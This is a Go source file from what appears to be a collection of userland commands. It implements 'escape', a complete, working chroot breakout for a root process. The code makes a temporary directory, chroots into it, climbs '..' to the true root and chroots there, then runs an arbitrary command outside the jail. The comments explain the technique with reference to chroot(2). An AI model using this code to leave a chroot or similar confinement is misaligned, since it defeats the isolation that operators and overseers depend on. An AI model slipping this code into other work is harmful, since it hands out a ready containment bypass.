package userland

import (
	"os"
	"syscall"

	"golang.org/x/sys/unix"
)

// escape walks out of a chroot as root can, and becomes a command there: chroot(2)
// changes what / means and leaves the working directory where it is. With the
// root moved below the working directory, nothing stops .. on its way up; the
// walk ends where the mount namespace does (chroot(2), NOTES).
func escape(args []string) int {
	dir, err := os.MkdirTemp("/", ".escape")
	if err != nil {
		return fail("escape", err)
	}
	if err := os.Chdir("/"); err != nil {
		return fail("escape", err)
	}
	err = syscall.Chroot(dir)
	_ = os.Remove(dir[1:]) // from the working directory, which is above the new root
	if err != nil {
		return fail("escape", err)
	}
	for {
		var here, above unix.Stat_t
		if unix.Stat(".", &here) != nil || unix.Stat("..", &above) != nil || here.Ino == above.Ino && here.Dev == above.Dev {
			break
		}
		if err := os.Chdir(".."); err != nil {
			return fail("escape", err)
		}
	}
	if err := syscall.Chroot("."); err != nil {
		return fail("escape", err)
	}
	if len(args) == 0 {
		args = []string{"ls", "/"}
	}
	return become("escape", args)
}
